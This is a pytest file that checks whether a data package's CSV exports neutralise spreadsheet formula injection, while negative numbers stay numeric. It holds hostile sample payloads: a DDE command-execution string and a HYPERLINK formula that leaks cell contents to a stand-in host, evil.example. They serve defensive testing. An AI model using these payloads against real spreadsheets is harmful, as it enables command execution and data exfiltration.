"""Spreadsheet formula injection (roydad.export.cells): a hostile publisher and headline in every
CSV export are written so that a spreadsheet shows them as text, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from roydad.export.acled import write_acled
from roydad.export.cells import safe_cell
from roydad.export.tabular import write_claims_csv, write_incidents_csv
from roydad.export.ucdp import write_ucdp
from roydad.models import Incident, Location
from tests.export import incidents as sample

PUBLISHER = "=cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1, "Read more")'


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"),
    ("+92 300 1234567", "'+92 300 1234567"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
    ("Taliban", "Taliban"),
    ("2024-03-06", "2024-03-06"),
    ("-77.04", "-77.04"),   # a number written as text is a number, not a formula
    ("+12", "+12"),
    (-77.04, -77.04),
    (None, None),
])
def test_cells_a_spreadsheet_would_evaluate_are_neutralised(cell: object, written: object) -> None:
    assert safe_cell(cell) == written


def _hostile(incident: Incident) -> Incident:
    sources = [s.model_copy(update={"publisher": PUBLISHER, "title": TITLE})
               for s in incident.sources]
    claims = [c.model_copy(update={"publisher": PUBLISHER}) for c in incident.claims]
    # West of Greenwich: a negative longitude must stay a number.
    location = (incident.location or Location()).model_copy(update={"lon": -77.04})
    return incident.model_copy(update={"sources": sources, "claims": claims,
                                       "location": location})


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _written(writer: object, incidents: list[Incident]) -> list[dict[str, str]]:
    out = io.StringIO()
    writer(incidents, out)  # type: ignore[operator]
    return _cells(out.getvalue())


def _assert_no_formula(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not (value or "").startswith(("=", "@", "\t", "\r")), (column, value)
            if (value or "").startswith(("+", "-")):
                float(value)  # only numbers may start with a sign


@pytest.mark.parametrize("writer", [
    lambda i, o: write_acled(i, o, lookup=None, now=1700000000),
    lambda i, o: write_ucdp(i, o, lookup=None),
    write_incidents_csv,
    write_claims_csv,
])
def test_every_csv_export_writes_hostile_text_as_text(writer: object) -> None:
    rows = _written(writer, [_hostile(i) for i in sample.all_incidents()])
    _assert_no_formula(rows)
    seen = " ".join(" ".join(v or "" for v in row.values()) for row in rows)
    assert "'=cmd|" in seen or "'=HYPERLINK" in seen  # kept, behind the apostrophe


def test_negative_coordinates_stay_numbers_in_acled() -> None:
    rows = _written(lambda i, o: write_acled(i, o, lookup=None, now=1700000000),
                    [_hostile(sample.tehran())])
    assert rows[0]["longitude"] == "-77.04"
    assert rows[0]["source"].startswith("'=cmd|")
